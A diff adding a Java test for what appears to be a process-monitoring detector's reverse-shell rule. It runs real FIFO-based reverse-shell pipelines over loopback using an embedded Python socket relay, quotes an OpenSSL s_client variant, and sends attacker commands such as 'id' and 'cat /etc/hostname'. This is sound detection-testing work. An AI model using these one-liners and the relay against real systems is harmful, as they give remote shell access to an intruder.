@@ -1,0 +1,134 @@
+package io.procguard.ml;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.junit.jupiter.api.Assumptions.assumeTrue;
+
+import io.procguard.core.process.ProcessRecord;
+import java.io.IOException;
+import java.io.OutputStream;
+import java.net.InetAddress;
+import java.net.ServerSocket;
+import java.net.Socket;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.List;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/**
+ * Schema 20: the reverse shell whose socket never touches the shell. A relay (nc, openssl s_client; here a few lines of
+ * Python, which CI has) holds the connection and talks to an interactive shell through a pipe and a FIFO:
+ * {@code mkfifo f; cat f | sh -i 2>&1 | RELAY > f}. Real strace runs; the feature decides, not the forest.
+ */
+class RelayedReverseShellTest {
+    /**
+     * nc in a few lines: connects to the port in argv[1], copies stdin to the socket (and half-closes it at the end of
+     * stdin) and the socket to stdout until the other side hangs up.
+     */
+    private static final String RELAY = "import socket,sys,os,threading\n"
+            + "s=socket.create_connection(('127.0.0.1',int(sys.argv[1])))\n"
+            + "def up():\n"
+            + "    while True:\n"
+            + "        d=os.read(0,4096)\n"
+            + "        if not d: break\n"
+            + "        s.sendall(d)\n"
+            + "    s.shutdown(socket.SHUT_WR)\n"
+            + "threading.Thread(target=up,daemon=True).start()\n"
+            + "while True:\n"
+            + "    d=s.recv(4096)\n"
+            + "    if not d: break\n"
+            + "    os.write(1,d)\n";
+
+    private final BehaviourFeatures features = new BehaviourFeatures();
+
+    @TempDir
+    Path dir;
+
+    @BeforeEach
+    void needsStraceAndPython() {
+        StraceRuns.assumeStrace();
+        assumeTrue(Files.isExecutable(TrainedModels.PYTHON), "python3 is not installed (" + TrainedModels.PYTHON + ")");
+    }
+
+    /** Runs {@code sh -c SCRIPT} under strace while an attacker on loopback sends two commands and an exit. */
+    private List<ProcessRecord> traceWithAttacker(String script) throws Exception {
+        Files.writeString(dir.resolve("relay.py"), RELAY);
+        try (ServerSocket listener = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
+            Thread attacker = new Thread(() -> {
+                try (Socket s = listener.accept()) {
+                    OutputStream out = s.getOutputStream();
+                    out.write("id\ncat /etc/hostname\nexit\n".getBytes(StandardCharsets.US_ASCII));
+                    out.flush();
+                    s.shutdownOutput(); // the relay ends when both sides have hung up
+                    s.getInputStream().readAllBytes();
+                } catch (IOException ignored) {
+                    // the relay may hang up first
+                }
+            });
+            attacker.setDaemon(true);
+            attacker.start();
+            Path log = StraceRuns.trace(dir, StraceRuns.RECOMMENDED, "/bin/sh", "-c",
+                    "cd '" + dir + "' && " + script.replace("PORT", Integer.toString(listener.getLocalPort())));
+            attacker.join(10_000);
+            return StraceRuns.processes(log, features);
+        }
+    }
+
+    private static ProcessRecord interactiveShell(List<ProcessRecord> ps) {
+        return ps.stream().filter(p -> p.argv().equals(List.of("/bin/sh", "-i"))).findFirst()
+                .orElseThrow(() -> new AssertionError("no '/bin/sh -i' among " + ps.stream().map(ProcessRecord::argv).toList()));
+    }
+
+    @Test
+    void anInteractiveShellFedThroughAPipeByARelayIsAReverseShell() throws Exception {
+        List<ProcessRecord> ps = traceWithAttacker("rm -f f; mkfifo f; cat f | /bin/sh -i 2>&1 | /usr/bin/python3 relay.py PORT > f");
+
+        ProcessRecord shell = interactiveShell(ps);
+        assertThat(ps).as("the attacker's commands ran").anySatisfy(p -> {
+            assertThat(p.ppid()).isEqualTo(shell.pid());
+            assertThat(p.argv()).containsExactly("id");
+        });
+        assertThat(shell.features().get("net.connect_inet")).as("the shell itself never connects").isZero();
+        assertThat(shell.features().get("ind.reverse_shell")).isEqualTo(1f);
+        assertThat(shell.evidence()).anySatisfy(l -> assertThat(l).startsWith("execve(\"/bin/sh\", [\"/bin/sh\", \"-i\"]"));
+        assertThat(ps).filteredOn(p -> p.argv().equals(List.of("cat", "f")))
+                .allSatisfy(p -> assertThat(p.features().get("ind.reverse_shell")).as("cat, the FIFO's reader").isZero());
+    }
+
+    @Test
+    void anInteractiveShellReadingTheFifoItselfIsAReverseShell() throws Exception {
+        // the OpenSSL spelling: /bin/sh -i < s 2>&1 | openssl s_client -quiet -connect HOST:PORT > s
+        List<ProcessRecord> ps = traceWithAttacker("rm -f s; mkfifo s; /bin/sh -i < s 2>&1 | /usr/bin/python3 relay.py PORT > s; rm s");
+
+        assertThat(interactiveShell(ps).features().get("ind.reverse_shell")).isEqualTo(1f);
+    }
+
+    @Test
+    void anInteractiveShellFedThroughAPipeWithNoNetworkInItsFamilyIsNot() throws Exception {
+        Path log = StraceRuns.trace(dir, StraceRuns.RECOMMENDED, "/bin/sh", "-c",
+                "cd '" + dir + "' && printf 'id\\nexit\\n' | /bin/sh -i 2>&1 | cat > out.txt");
+        List<ProcessRecord> ps = StraceRuns.processes(log, features);
+
+        assertThat(interactiveShell(ps).features().get("ind.reverse_shell")).isZero();
+    }
+
+    @Test
+    void aShellRunningAScriptFromTheNetworkIsNoRelayShell() throws Exception {
+        // curl URL | sh: commands from a pipe whose writer is online, but no -i: an installer's way, not this rule's
+        List<ProcessRecord> ps = traceWithAttacker("/usr/bin/python3 relay.py PORT < /dev/null | /bin/sh > out.txt 2>&1");
+
+        ProcessRecord shell = ps.stream().filter(p -> p.argv().equals(List.of("/bin/sh"))).findFirst().orElseThrow();
+        assertThat(shell.features().get("ind.reverse_shell")).isZero();
+    }
+
+    @Test
+    void anInteractiveShellOnATerminalDeviceInAnOnlineFamilyIsNot() throws Exception {
+        // stdin /dev/null (a device, as a terminal is) while a sibling holds a connection
+        List<ProcessRecord> ps = traceWithAttacker("/usr/bin/python3 relay.py PORT < /dev/null > out.txt & sleep 1; /bin/sh -i < /dev/null; wait");
+
+        assertThat(ps).as("the sibling relay").anySatisfy(p -> assertThat(p.features().get("net.connect_inet")).isEqualTo(1f));
+        assertThat(interactiveShell(ps).features().get("ind.reverse_shell")).isZero();
+    }
+}
